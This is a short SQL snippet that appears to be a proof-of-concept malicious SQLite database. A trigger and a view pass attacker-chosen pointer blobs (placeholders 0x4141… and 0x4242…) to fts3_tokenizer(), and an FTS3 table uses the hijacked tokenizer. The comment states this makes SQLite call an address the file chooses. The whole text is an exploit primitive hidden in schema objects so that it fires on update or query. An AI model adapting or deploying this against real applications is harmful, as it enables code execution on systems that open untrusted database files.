-- fts3_tokenizer() with a pointer argument makes SQLite call an address the file chooses.
CREATE TRIGGER jump AFTER UPDATE ON school BEGIN
  SELECT fts3_tokenizer('simple', x'4141414141414141');
END;
CREATE VIEW jump_view AS SELECT fts3_tokenizer('simple', x'4242424242424242') AS t;
CREATE VIRTUAL TABLE notes USING fts3(body, tokenize=simple);
